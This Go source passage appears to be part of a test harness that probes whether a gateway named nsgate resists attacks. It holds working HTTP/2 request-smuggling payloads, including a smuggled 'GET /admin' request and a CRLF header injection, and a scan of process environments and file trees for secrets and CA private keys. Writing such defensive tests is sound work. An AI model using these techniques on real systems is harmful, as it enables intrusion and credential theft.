			refused = append(refused, fmt.Sprintf("%s: %v", line, err))
		case status == 403 && refusal != "":
			refused = append(refused, fmt.Sprintf("%s: 403 (%s)", line, refusal))
		case status == 400:
			refused = append(refused, fmt.Sprintf("%s: 400", line))
		default:
			through = append(through, fmt.Sprintf("%s: %d", line, status))
		}
	}
	if len(through) > 0 {
		return allowedf("%d of %d not refused: %s", len(through), len(reqs), strings.Join(through, "; "))
	}
	return blockedf("all %d refused: %s", len(reqs), strings.Join(refused, "; "))
}

// rawTLSStatus writes req on a new TLS connection and reads the status
// line and the X-Nsgate-Refusal header of the answer.
func (a *attacker) rawTLSStatus(ctx context.Context, addr string, tc *tls.Config, req string) (int, string, error) {
	dctx, cancel := context.WithTimeout(ctx, 2*a.cfg.Timeout)
	defer cancel()
	c, err := (&tls.Dialer{NetDialer: a.dialer(), Config: tc}).DialContext(dctx, "tcp", addr)
	if err != nil {
		return 0, "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * a.cfg.Timeout))
	if _, err := io.WriteString(c, req); err != nil {
		return 0, "", err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, "", err
	}
	resp.Body.Close()
	return resp.StatusCode, resp.Header.Get("X-Nsgate-Refusal"), nil
}

// credH2Smuggle runs creds-h2-smuggle: three malformed h2 streams, each
// on a connection of its own; each must be reset or refused. The
// smuggled request carries no placeholder, so that the credential check
// cannot be what stops it.
func credH2Smuggle(ctx context.Context, a *attacker) result {
	ph := os.Getenv(CredPlaceholderEnv)
	smuggled := "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: " + CredAPIName + "\r\n\r\n"
	auth := CredAPIName + ":" + strconv.Itoa(CredAPIPort)
	base := [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", auth}, {":path", "/v1/upload"}, {"authorization", "Bearer " + ph}}
	streams := []struct {
		what   string
		fields [][2]string
		body   string
	}{
		{"transfer-encoding: chunked with a second request in the body", append(append([][2]string{}, base...), [2]string{"transfer-encoding", "chunked"}), smuggled},
		{"content-length 3 with a longer body", append(append([][2]string{}, base...), [2]string{"content-length", "3"}), "abc" + smuggled},
		{"a CRLF in a header value", append(append([][2]string{}, base...), [2]string{"x-lab", "a\r\nX-HTTP-Method-Override: DELETE"}), "x"},
	}
	var parts []string
	through := false
	for _, s := range streams {
		o, err := a.h2Stream(ctx, s.fields, s.body)
		if err != nil {
			return erroredf("%s: %v", s.what, err)
		}
		parts = append(parts, s.what+": "+o)
		if strings.HasPrefix(o, "status 2") {
			through = true
		}
	}
	if through {
		return allowedf("%s", strings.Join(parts, "; "))
	}
	return blockedf("%s", strings.Join(parts, "; "))
}

// h2Stream sends one h2 request (header fields as given, hpack-encoded
// without checks) and its body on a connection of its own to the api
// host, and says how the stream ended: a reset, a GOAWAY, a status, or
// the connection's end.
func (a *attacker) h2Stream(ctx context.Context, fields [][2]string, body string) (string, error) {
	tc, err := credTLS(CredAPIName, "h2")
	if err != nil {
		return "", err
	}
	dctx, cancel := context.WithTimeout(ctx, 2*a.cfg.Timeout)
	defer cancel()
	c, err := (&tls.Dialer{NetDialer: a.dialer(), Config: tc}).DialContext(dctx, "tcp", net.JoinHostPort(CredAPIName, strconv.Itoa(CredAPIPort)))
	if err != nil {
		return "", fmt.Errorf("dial: %w", err)
	}
	defer c.Close()
	if p := c.(*tls.Conn).ConnectionState().NegotiatedProtocol; p != "h2" {
		return "", fmt.Errorf("nsgate did not offer h2 (ALPN %q)", p)
	}
	c.SetDeadline(time.Now().Add(2 * a.cfg.Timeout))
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return "", err
	}
	fr := http2.NewFramer(c, c)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	fr.WriteSettings()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range fields {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes(), EndHeaders: true}); err != nil {
		return "", err
	}
	fr.WriteData(1, true, []byte(body))
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return "connection ended: " + err.Error(), nil
		}
		switch f := f.(type) {
		case *http2.RSTStreamFrame:
			return "RST_STREAM " + f.ErrCode.String(), nil
		case *http2.GoAwayFrame:
			return "GOAWAY " + f.ErrCode.String(), nil
		case *http2.MetaHeadersFrame:
			return "status " + f.PseudoValue("status"), nil
		case *http2.SettingsFrame:
			if !f.IsAck() {
				fr.WriteSettingsAck()
			}
		}
	}
}

// credReadSource runs creds-read-source.
func credReadSource(_ context.Context, a *attacker) result {
	var found, tried []string
	// A private key counts when it is the key of a certificate the
	// view's bundle trusts (the run's CA is one): other keys the view may
	// hold (a package's snakeoil key) are not the CA's.
	bundle := bundleKeys()
	keys := 0
	look := func(where string, b []byte) {
		if i := bytes.Index(b, []byte(CredSecretPrefix)); i >= 0 {
			found = append(found, fmt.Sprintf("%s in %s: %q", CredSecretPrefix, where, b[i:min(len(b), i+len(CredSecretPrefix)+24)]))
		}
		for rest := b; bytes.Contains(rest, []byte("PRIVATE KEY")); {
			var blk *pem.Block
			if blk, rest = pem.Decode(rest); blk == nil {
				break
			}
			if !strings.Contains(blk.Type, "PRIVATE KEY") {
				continue
			}
			keys++
			if pub := publicOf(blk.Bytes); pub != nil {
				for _, k := range bundle {
					if k.Equal(pub) {
						found = append(found, "the private key of a trusted CA in "+where)
					}
				}
			}
		}
	}
	if a.cfg.WorkDir != "" {
		src := filepath.Join(a.cfg.WorkDir, CredSecretFile)
		b, err := os.ReadFile(src)
		if err == nil {
			look(src, b)
			found = append(found, "read "+src)
		} else {
			tried = append(tried, src+": "+errText(err))
		}
	}
	for _, kv := range os.Environ() {
		look("the environment", []byte(kv))
	}
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		for _, f := range []string{"environ", "cmdline"} {
			if b, err := os.ReadFile(filepath.Join(p, f)); err == nil {
				look(filepath.Join(p, f), b)
			}
		}
	}
	tried = append(tried, fmt.Sprintf("%d processes' environ and cmdline", len(procs)))
	files := 0
	for _, root := range []string{os.Getenv("HOME"), "/tmp", "/run", "/etc/ssl", a.cfg.WorkDir} {
		if root == "" {
			continue
		}
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || files > 4000 {
				return nil
			}
			if d.Type().IsRegular() {
				if info, err := d.Info(); err == nil && info.Size() < 1<<20 {
					files++
					if b, err := os.ReadFile(p); err == nil {
						look(p, b)
					}
				}
			}
			return nil
		})
	}
	tried = append(tried, fmt.Sprintf("%d files under the home, /tmp, /run, /etc/ssl and the work directory; %d private keys, none of a CA in the bundle (%d certificates)", files, keys, len(bundle)))
	if len(found) > 0 {
		return allowedf("found: %s", strings.Join(found, "; "))
	}
	return blockedf("nothing found: %s", strings.Join(tried, "; "))
}

// bundleKeys are the public keys of the certificates in the view's
// system bundle.
func bundleKeys() []interface{ Equal(crypto.PublicKey) bool } {
	path := os.Getenv("SSL_CERT_FILE") // the bundle nsgate gave the worker
	if path == "" {
		path = "/etc/ssl/certs/ca-certificates.crt"
	}
	b, err := os.ReadFile(path)
	if err != nil {
		return nil
	}
	var out []interface{ Equal(crypto.PublicKey) bool }
	for rest := b; ; {
		var blk *pem.Block
		if blk, rest = pem.Decode(rest); blk == nil {
			break
		}
		if c, err := x509.ParseCertificate(blk.Bytes); err == nil {
			if k, ok := c.PublicKey.(interface{ Equal(crypto.PublicKey) bool }); ok {
				out = append(out, k)
			}
		}
	}
	return out
}

// publicOf is the public key of a DER private key (PKCS #8, SEC 1 or
// PKCS #1), or nil.
func publicOf(der []byte) crypto.PublicKey {
	var k any
	var err error
	if k, err = x509.ParsePKCS8PrivateKey(der); err != nil {
		if k, err = x509.ParseECPrivateKey(der); err != nil {
			if k, err = x509.ParsePKCS1PrivateKey(der); err != nil {
				return nil
			}
		}
	}
	if s, ok := k.(crypto.Signer); ok {
		return s.Public()
	}
	return nil
}

func errText(err error) string {
	var pe *fs.PathError
	if e, ok := err.(*fs.PathError); ok {
		pe = e
		return pe.Err.Error()
	}
	return err.Error()
}
